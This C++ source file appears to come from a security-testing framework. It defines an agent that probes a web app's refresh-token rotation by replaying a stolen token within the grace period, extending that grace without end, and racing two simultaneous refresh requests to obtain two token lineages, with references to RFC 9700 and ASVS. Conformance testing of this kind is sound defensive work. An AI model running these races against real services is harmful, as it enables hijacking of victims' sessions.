// refresh-race: a stolen refresh token, used within the grace that two tabs need, and twice in the
// same moment. There may be one successor, and no second line of them (RFC 9700 section 4.14.2;
// ASVS 5.0, 10.4.5).
#include "core/attack/every_agent.h"
#include "core/attack/session.h"
#include "core/attack/stolen_refresh.h"

namespace parapet::attack {
namespace {

// Shorter than the moment that two tabs need.
constexpr auto kWithinGrace = std::chrono::seconds(4);

enum class Grace { Answers, IsSilent };

class RefreshRace final : public Agent {
    void run(Target& target) override {
        if (fork_within_grace(target) == Grace::Answers) ask_without_end(target);
        fork_at_once(target);
    }

    // Right behind the victim's own request, as his second tab would ask.
    static Grace fork_within_grace(Target& target) {
        Credentials const stolen = stolen_at_sign_in(target);
        if (stolen.empty()) return Grace::IsSilent;
        victim_comes_back(target);
        Credentials const held = refresh(target, stolen);
        if (held.empty()) return Grace::IsSilent;
        target.note("Within the grace the app answered the thief, too.");
        // If he was given the victim's own successor, the victim uses it up now.
        victim_comes_back(target);
        target.wait(kLongerThanGrace);
        renew_and_use(target, held);
        return Grace::Answers;
    }

    // A grace may begin anew each time that it is used.
    static void ask_without_end(Target& target) {
        Credentials const stolen = stolen_at_sign_in(target);
        victim_comes_back(target);
        Credentials held;
        for (Duration left = kLongerThanGrace; left > Duration::zero(); left -= kWithinGrace) {
            held = refresh(target, stolen);
            if (held.empty()) return;
            target.wait(kWithinGrace);
        }
        target.note("The moment that two tabs need had no end: it began anew at each request.");
        use(target, held);
    }

    // Two requests in the same moment: of two lines of successors the second is too many.
    static void fork_at_once(Target& target) {
        Credentials const stolen = stolen_at_sign_in(target);
        std::vector<http::Request> requests = refresh_requests(target, stolen);
        if (requests.empty()) return;
        requests = {requests.front(), requests.front()};
        std::vector<Credentials> lines;
        for (http::Response const& answer : target.send_in_step(requests))
            if (succeeded(answer)) lines.push_back(credentials_in(answer));
        if (lines.size() < 2 || lines[0].empty() || lines[1].empty()) return;
        target.wait(kAccessTokenLives);
        (void)refresh(target, lines[0]);
        target.wait(kLongerThanGrace);
        renew_and_use(target, lines[1]);
    }
};

}  // namespace

std::unique_ptr<Agent> make_refresh_race() { return std::make_unique<RefreshRace>(); }

}  // namespace parapet::attack
